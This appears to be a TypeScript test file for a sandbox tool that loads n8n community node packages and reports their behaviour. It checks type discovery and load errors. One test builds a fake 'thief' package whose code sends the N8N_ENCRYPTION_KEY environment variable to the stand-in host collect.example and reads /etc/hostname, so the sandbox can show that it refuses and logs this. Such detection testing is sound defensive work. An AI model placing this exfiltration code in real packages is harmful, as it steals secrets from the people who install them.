import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SandboxReport } from '../../sandbox/report/report';
import { describeSlow } from '../../test/support/slow-tests';
import { testTerminal } from '../terminal/test-terminal';
import { runTroupe } from '../program';

let home: string;
/** An n8n with nothing but the package that nodes require. */
let n8n: string;

beforeAll(() => {
	home = mkdtempSync(join(tmpdir(), 'troupe-sandbox-package-'));
	n8n = join(home, 'n8n/node_modules/n8n');
	write('n8n/node_modules/n8n/package.json', JSON.stringify({ name: 'n8n', version: '2.0.0', engines: { node: '*' } }));
	write('n8n/node_modules/n8n-workflow/package.json', JSON.stringify({ name: 'n8n-workflow', version: '2.0.0', main: 'index.js' }));
	write('n8n/node_modules/n8n-workflow/index.js', `exports.NodeConnectionTypes = { Main: 'main' };`);
});
afterAll(() => rmSync(home, { recursive: true, force: true }));

function write(path: string, text: string): void {
	mkdirSync(join(home, path, '..'), { recursive: true });
	writeFileSync(join(home, path), text);
}

function writePackage(node: string): string {
	const named = { nodes: ['dist/Weather.node.js'], credentials: ['dist/WeatherApi.credentials.js'] };
	write('package/package.json', JSON.stringify({ name: 'n8n-nodes-weather', version: '1.2.3', n8n: named }));
	write('package/dist/Weather.node.js', node);
	write('package/dist/WeatherApi.credentials.js', `exports.WeatherApi = class { name = 'weatherApi'; };`);
	return join(home, 'package');
}

async function run(folder: string, ...options: string[]) {
	const terminal = testTerminal({ TROUPE_HOME: home, TROUPE_N8N: n8n });
	const code = await runTroupe(['sandbox', 'run', 'package', folder, ...options, '--json'], terminal);
	const document = JSON.parse(terminal.printed.join('\n') || '{}') as { stdout?: string; report: SandboxReport };
	const types = document.stdout === undefined ? {} : (JSON.parse(document.stdout) as Record<string, unknown>);
	return { ...document, code, types, noted: terminal.noted.join('\n') };
}

it('says that a package is missing', async () => {
	const { code, noted } = await run('n8n-nodes-missing');
	expect([code > 0, noted]).toEqual([true, expect.stringMatching(/no package n8n-nodes-missing/)]);
});

describeSlow('on this machine', () => {
	it('loads nodes and credential types, which find what n8n has', async () => {
		const { code, types, report } = await run(
			writePackage(`
				const { NodeConnectionTypes } = require('n8n-workflow');
				exports.Weather = class { description = { name: 'weather', displayName: 'Weather', version: [1, 2], outputs: [NodeConnectionTypes.Main] }; };
			`),
		);
		expect(types).toEqual({
			nodes: [{ file: 'dist/Weather.node.js', name: 'weather', displayName: 'Weather', versions: [1, 2] }],
			credentials: [{ file: 'dist/WeatherApi.credentials.js', name: 'weatherApi' }],
		});
		expect(report.subject).toMatchObject({ kind: 'package', name: 'n8n-nodes-weather@1.2.3' });
		expect(code).toBe(0);
	});

	it('shows what a package does while it is loaded', async () => {
		const thief = writePackage(`
			fetch('https://collect.example/?key=' + process.env.N8N_ENCRYPTION_KEY).catch(() => {});
			try { require('fs').readFileSync('/etc/hostname'); } catch {}
			exports.Weather = class { description = { name: 'weather', version: 1 }; };
		`);
		const { report, noted } = await run(thief, '--audit', join(home, 'capabilities.json'));
		if (noted.includes('SANDBOX_LEVEL_TOO_LOW') || report === undefined) return expect(noted).toMatch(/the run demands L0\+/);
		expect(report.requests).toMatchObject([{ method: 'GET', host: 'collect.example', action: 'refuse' }]);
		expect(JSON.parse(readFileSync(join(home, 'capabilities.json'), 'utf8'))).toMatchObject({
			requests: ['GET collect.example'],
			files: expect.arrayContaining([{ path: '/etc/hostname', access: 'read' }]) as unknown,
			environment: ['N8N_ENCRYPTION_KEY'],
		});
	});

	it('names a node that does not load', async () => {
		const { code, types } = await run(writePackage(`throw new Error('broken');`));
		expect(code).toBe(1);
		expect(types.nodes).toEqual([{ file: 'dist/Weather.node.js', error: 'broken' }]);
	});
});
